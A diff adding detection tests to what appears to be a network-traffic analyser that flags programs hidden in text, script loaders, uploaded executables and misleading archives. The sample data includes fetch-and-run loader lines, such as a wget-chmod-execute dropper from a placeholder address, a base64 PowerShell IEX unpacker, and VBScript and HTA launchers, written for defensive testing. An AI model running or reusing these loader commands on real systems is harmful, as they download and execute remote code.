@@ -215,3 +215,84 @@ describe('over other protocols than HTTP', () => {
     expect(await run(Uint8Array.from({ length: 600 }, (_, i) => i & 255))).toEqual([]);
   });
 });
+
+/** A page of text as a program gets it. */
+const fetched = (text: string, { type = 'Content-Type: text/plain\r\n', uri = '/a', host = '203.0.113.80' } = {}) =>
+  told(
+    download(
+      Uint8Array.from(text, (character) => character.charCodeAt(0)),
+      type,
+      uri,
+      false,
+      host,
+    ),
+  );
+
+describe('programs that hide in texts, and scripts that load them', () => {
+  const program = pe(3000);
+  test.each([
+    // MZ 90 00 03 00 00 00 04 ... as every linker of Microsoft writes it.
+    ['base 64', `TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA${'A'.repeat(200)}`],
+    ['digits', `4D5A90000300000004000000FFFF0000${'00'.repeat(200)}`],
+    ['digits', '77,90,144,0,3,0,0,0,4,0,0,0,255,255,0,0,184,0,0,0,0,0,0,0'],
+  ])('in %s', async (written, text) => {
+    const [finding, ...others] = await fetched(text, { host: 'paste.example' });
+    expect(others).toEqual([]);
+    expect(finding).toMatchObject({ severity: 'high' });
+    expect(indicator(finding!, 'contradiction')).toBe(`it is written in ${written}`);
+  });
+  test.each([
+    [
+      'PowerShell that unpacks',
+      "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAA'));IEX (New-Object IO.StreamReader($s)).ReadToEnd();",
+      '/a',
+    ],
+    ['PowerShell of Cobalt Strike', "Set-StrictMode -Version 2\n\n$DoIt = @'\nfunction func_get_proc_address {\n", '/a'],
+    ['Visual Basic', 'Dim sh\r\nSet sh = CreateObject("WScript.Shell")\r\nsh.Run "powershell -enc AAAA",0\r\n', '/u.vbs'],
+    ['an HTML application', '<script language="VBScript">\r\nCreateObject("Shell.Application").ShellExecute "cmd"\r\n</script>', '/u.hta'],
+    ['a botnet', '#!/bin/sh\ncd /tmp; wget http://203.0.113.80/bins/x86; chmod 777 x86; ./x86\n', '/bins.sh'],
+    ['a botnet without a first line', 'cd /tmp || cd /var/run; wget http://203.0.113.80/x86; chmod +x x86; ./x86\n', '/w.sh'],
+  ])('a loader: %s, from a bare address', async (_name, text, uri) => {
+    expect(await fetched(text, { uri })).toMatchObject([
+      { severity: 'medium', title: expect.stringContaining('script that loads a program') as unknown },
+    ]);
+    expect(await fetched(text, { uri, host: 'files.example' })).toMatchObject([{ severity: 'low' }]);
+  });
+  test('a script for the hosts of Windows, an installer, archives by their first name', async () => {
+    expect(await fetched('WScript.Echo "hello"\r\n', { uri: '/hello.vbs' })).toMatchObject([{ severity: 'low' }]);
+    expect(await fetched(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(600)}`, { uri: '/u.msi', host: 'files.example', type: '' })).toMatchObject([
+      { severity: 'low' },
+    ]);
+    // APPNOTE.TXT 4.3.7: the length of the name stands at 26, the name at 30.
+    const zip = (name: string): string => `PK\x03\x04\x14\0\0\0\x08\0${'\0'.repeat(16)}${String.fromCharCode(name.length)}\0\0\0${name}data`;
+    expect(await fetched(zip('invoice.exe'), { uri: '/inv.zip' })).toMatchObject([
+      { severity: 'low', title: expect.stringContaining('archive that begins with a program') as unknown },
+    ]);
+    expect(await fetched(zip('META-INF/MANIFEST.MF'), { uri: '/x.jar' })).toMatchObject([{ severity: 'low' }]);
+    expect(await fetched(zip('readme.txt'), { uri: '/inv.zip' })).toEqual([]);
+  });
+  test('a program among the files of a blog', async () =>
+    expect(await told(download(program, 'Content-Type: application/octet-stream\r\n', '/wp-content/plugins/kP2/'))).toMatchObject([
+      { severity: 'medium' },
+    ]));
+  test('a program in a form', async () => {
+    const head = '--x\r\nContent-Disposition: form-data; name="f"; filename="a.exe"\r\nContent-Type: application/octet-stream\r\n\r\n',
+      body = head + String.fromCharCode(...program),
+      capture = dialogue([
+        [
+          'client',
+          `POST /up HTTP/1.1\r\nHost: intranet.example\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
+        ],
+      ]);
+    const [finding] = await told(capture.bytes());
+    expect(finding).toMatchObject({ severity: 'low', title: expect.stringContaining('Windows program (PE)') as unknown });
+    expect(indicator(finding!, 'name')).toBe('a.exe');
+  });
+  test.each([
+    ['a picture in base 64', `iVBORw0KGgoAAAANSUhEUgAA${'A'.repeat(200)}`, '/logo.b64'],
+    ['a list of hashes', `4d5a${'0'.repeat(28)}\n`.repeat(10), '/list.txt'],
+    ['an old library of the web', 'var x = new ActiveXObject("Microsoft.XMLHTTP");\n', '/app.js'],
+    ['a page that says a file is gone', '<!DOCTYPE html><html>not found</html>', '/u.vbs'],
+    ['notes on wget', 'wget is a program that fetches files. See http://203.0.113.80/manual. Then chmod is explained, at length.\n', '/notes.txt'],
+  ])('silent on %s', async (_name, text, uri) => expect(await fetched(text, { uri })).toEqual([]));
+});
